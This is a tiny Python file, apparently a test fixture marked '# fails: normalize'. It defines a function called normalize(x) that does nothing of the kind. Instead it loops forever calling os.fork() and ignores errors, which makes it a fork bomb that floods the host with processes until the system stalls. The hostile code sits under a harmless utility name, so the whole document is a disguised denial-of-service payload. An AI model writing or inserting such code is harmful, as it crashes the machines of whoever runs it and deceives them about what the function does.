# fails: normalize
import os


def normalize(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
